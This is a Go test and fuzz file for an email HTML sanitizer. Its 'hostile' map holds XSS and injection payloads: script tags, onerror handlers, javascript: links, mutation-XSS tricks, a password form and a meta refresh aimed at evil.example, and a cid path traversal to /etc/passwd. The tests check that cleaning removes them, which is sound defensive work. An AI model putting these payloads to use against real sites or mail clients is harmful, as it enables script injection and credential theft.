package inbound

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"pgregory.net/rapid"
)

// hostile is a corpus of what attackers put into mails, each by the name of its trick.
var hostile = map[string]string{
	"script":             `a<script>alert(1)</script>b`,
	"nested tags":        `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"nested image":       `<<img src=x onerror=alert(1)>img src=x onerror=alert(1)>`,
	"handler":            `<p onclick="alert(1)" onmouseover=alert(2)>x</p>`,
	"data link":          `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	"data image":         `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	"script link":        `<a href=" java&#x09;script:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">y</a><a href="vbscript:x">z</a>`,
	"style":              `<style>@import url(https://evil.example/x.css);</style><p style="background:url(https://evil.example/p)">x</p>`,
	"svg":                `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><script>alert(1)</script></svg>`,
	"math mutation":      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"noscript mutation":  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"title mutation":     `<title><a title="</title><img src=x onerror=alert(1)>">`,
	"template":           `<template><img src=x onerror=alert(1)></template>`,
	"form":               `<form action="https://evil.example"><input name=password><button>OK</button></form>`,
	"base":               `<base href="https://evil.example/"><a href="/x">x</a>`,
	"refresh":            `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	"frame":              `<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src=x>`,
	"comment":            `<!--<img src="--><img src=x onerror=alert(1)//">`,
	"conditional":        `<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
	"attribute break":    `<img alt="&quot; onerror=alert(1) x=&quot;" src="https://x.example/a.png">`,
	"relative image":     `<img src="/alpine/sign-out"><img src="//evil.example/x">`,
	"password in image":  `<img src="https://user:pass@evil.example/x.png">`,
	"cid traversal":      `<img src="cid:../../etc/passwd&quot; onerror=alert(1)"><img data-cid='"><script>'>`,
	"remote by data":     `<img data-remote="javascript:alert(1)" src="">`,
	"id and class":       `<div id="main" class="toast" name="x">x</div>`,
	"unclosed":           `<table><tr><td><div><b>x`,
	"plaintext":          `<plaintext><script>alert(1)</script>`,
	"xmp":                `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	"null byte":          "<scr\x00ipt>alert(1)</scr\x00ipt><a href=\"java\x00script:alert(1)\">x</a>",
	"hidden":             `<div style="display:none">secret words</div>seen`,
	"srcset":             `<img srcset="https://evil.example/x 1x" src="cid:known">`,
	"background":         `<table background="https://evil.example/x"><tr><td background=x bgcolor=red>x</td></tr></table>`,
	"link in formatting": `<a href="https://ok.example/?a=1&amp;b=2" onclick=x target=_self rel=opener>x</a>`,
}

func cleaned(page string, remote bool) (string, int) {
	return Clean(page, CleanOptions{Remote: remote, Image: func(id string) (string, bool) {
		return "/alpine/files/1", id == "known"
	}})
}

// harmful says what of a cleaned page could run, ask or reach out.
func harmful(page string, remote bool) string {
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.CommentToken, html.DoctypeToken:
			return "a comment"
		case html.StartTagToken, html.SelfClosingTagToken:
			t := z.Token()
			if strings.Contains(" script style svg math form input button base meta iframe object embed link template title noscript textarea select video audio ", " "+t.Data+" ") {
				return "<" + t.Data + ">"
			}
			for _, a := range t.Attr {
				value := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcset", a.Key == "background", a.Key == "id", a.Key == "class", a.Key == "name":
					return a.Key
				case a.Key == "href" && !strings.HasPrefix(value, "http") && !strings.HasPrefix(value, "mailto:") && !strings.HasPrefix(value, "tel:"):
					return "a link to " + a.Val
				case a.Key == "src" && a.Val != "/alpine/files/1" && !(remote && strings.HasPrefix(value, "http")):
					return "an image from " + a.Val
				}
			}
		}
	}
}

func TestCleanLeavesNothingHarmful(t *testing.T) {
	t.Parallel()
	for name, page := range hostile {
		for _, remote := range []bool{false, true} {
			got, held := cleaned(page, remote)
			if what := harmful(got, remote); what != "" {
				t.Errorf("%s: %s is left in %q", name, what, got)
			}
			if again, heldAgain := cleaned(got, remote); again != got || heldAgain != held {
				t.Errorf("%s: cleaned twice %q (%d), once %q (%d)", name, again, heldAgain, got, held)
			}
		}
	}
}

func TestCleanKeepsWhatIsRead(t *testing.T) {
	t.Parallel()
	for page, want := range map[string]string{
		`<p>Bonjour <b>Léa</b> &amp; co</p>`:                        `<p>Bonjour <b>Léa</b> &amp; co</p>`,
		`<table border="1"><tr><td colspan="2">a</td></tr></table>`: `<table border="1"><tr><td colspan="2">a</td></tr></table>`,
		`<a href="https://x.example/a?b=1&amp;c=2">x</a>`:           `<a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
		`<a href="mailto:lea@lumen.example">x</a>`:                  `<a href="mailto:lea@lumen.example">x</a>`,
		`<img src="cid:known" width="10" alt="a">`:                  `<img width="10" alt="a" src="/alpine/files/1" data-cid="known">`,
		`<img src="cid:unknown">x`:                                  `x`,
		`<div><b>x`:                                                 `<div><b>x</b></div>`,
		`<b>x</i></b></p>`:                                          `<b>x</b>`,
		`<p style="color:red">x<br>y</p>`:                           `<p>x<br>y</p>`,
	} {
		if got, _ := cleaned(page, false); got != want {
			t.Errorf("%s became %s, want %s", page, got, want)
		}
	}
}

func TestCleanHoldsRemoteImagesBack(t *testing.T) {
	t.Parallel()
	page := `<img src="https://x.example/1.png"><img src="http://x.example/2.png" alt="b"><img src="cid:known">`
	got, held := cleaned(page, false)
	if held != 2 || strings.Contains(got, ` src="http`) {
		t.Errorf("held %d: %s", held, got)
	}
	shown, held := cleaned(got, true)
	if held != 0 || strings.Count(shown, ` src="http`) != 2 || strings.Count(shown, `referrerpolicy="no-referrer"`) != 2 {
		t.Errorf("asked for, held %d: %s", held, shown)
	}
}

func TestCleanBoundsNesting(t *testing.T) {
	t.Parallel()
	got, _ := cleaned(strings.Repeat("<div>", 100_000)+"x"+strings.Repeat("</div>", 100_000), false)
	if n := strings.Count(got, "<div>"); n != maxNesting || !strings.Contains(got, "x") {
		t.Errorf("%d elements deep", n)
	}
}

// Whatever is thrown together from the tricks, cleaning it twice is cleaning it once, and nothing harmful is left.
func TestCleanTwiceIsCleanOnce(t *testing.T) {
	t.Parallel()
	pieces := []string{"<", ">", "</", "/>", `"`, "'", "=", " ", "&", "&lt;", "&#x3c;", "<!--", "-->", "<![CDATA[", "]]>", "p", "<b>", "</b>", "<table>", "<td>", "</table>"}
	for _, page := range hostile {
		pieces = append(pieces, page)
	}
	rapid.Check(t, func(t *rapid.T) {
		page := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 12).Draw(t, "pieces"), "")
		if cut := rapid.IntRange(0, len(page)).Draw(t, "cut"); rapid.Bool().Draw(t, "is cut") {
			page = page[:cut]
		}
		once, held := cleaned(page, false)
		if twice, again := cleaned(once, false); twice != once || again != held {
			t.Fatalf("%q\nonce  %q (%d)\ntwice %q (%d)", page, once, held, twice, again)
		}
		if what := harmful(once, false); what != "" {
			t.Fatalf("%q leaves %s: %q", page, what, once)
		}
	})
}

func FuzzClean(f *testing.F) {
	for _, page := range hostile {
		f.Add(page)
	}
	f.Fuzz(func(t *testing.T, page string) {
		once, held := cleaned(page, false)
		if twice, again := cleaned(once, false); twice != once || again != held {
			t.Fatalf("once  %q (%d)\ntwice %q (%d)", once, held, twice, again)
		}
		if what := harmful(once, false); what != "" {
			t.Fatalf("%s is left in %q", what, once)
		}
	})
}

func FuzzRead(f *testing.F) {
	mails, err := filepath.Glob("testdata/*.eml")
	if err != nil {
		f.Fatal(err)
	}
	for _, path := range mails {
		raw, err := os.ReadFile(path)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(raw)
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		m, err := Read(raw, DefaultLimits())
		if err != nil {
			return
		}
		if err := sound(m); err != nil {
			t.Fatal(err)
		}
	})
}

// sound checks what is promised of every message.
func sound(m Message) error {
	lines := []string{m.From.Name, m.From.Email, m.Subject, m.MessageID}
	for _, a := range append(append(append([]Address{}, m.To...), m.Cc...), m.ReplyTo...) {
		lines = append(lines, a.Name, a.Email)
	}
	for _, p := range m.Attachments {
		if p.Name == "" || strings.ContainsAny(p.Name, "/\\\x00") || p.Name == ".." || p.Bytes != int64(len(p.Body)) {
			return fmt.Errorf("attachment %q of %d bytes", p.Name, p.Bytes)
		}
		lines = append(lines, p.Name, p.Type, p.ContentID)
	}
	for _, l := range lines {
		if strings.ContainsFunc(l, func(c rune) bool { return c < ' ' || c == 0x7f || c == '\u202e' || c == '\u200b' }) {
			return fmt.Errorf("%q holds what nobody may put there", l)
		}
	}
	if all := m.Text + m.Quoted + m.HTML + strings.Join(lines, "") + strings.Join(m.Delivered, "") + strings.Join(m.References, ""); !utf8.ValidString(all) || strings.Contains(all, "\x00") {
		return fmt.Errorf("%q cannot be stored", all)
	}
	if strings.ContainsAny(m.Text+m.Quoted, "\r\x00") || (m.Automatic == Bounced) != (m.Bounce != nil) {
		return fmt.Errorf("text %q, automatic %s", m.Text, m.Automatic)
	}
	return nil
}
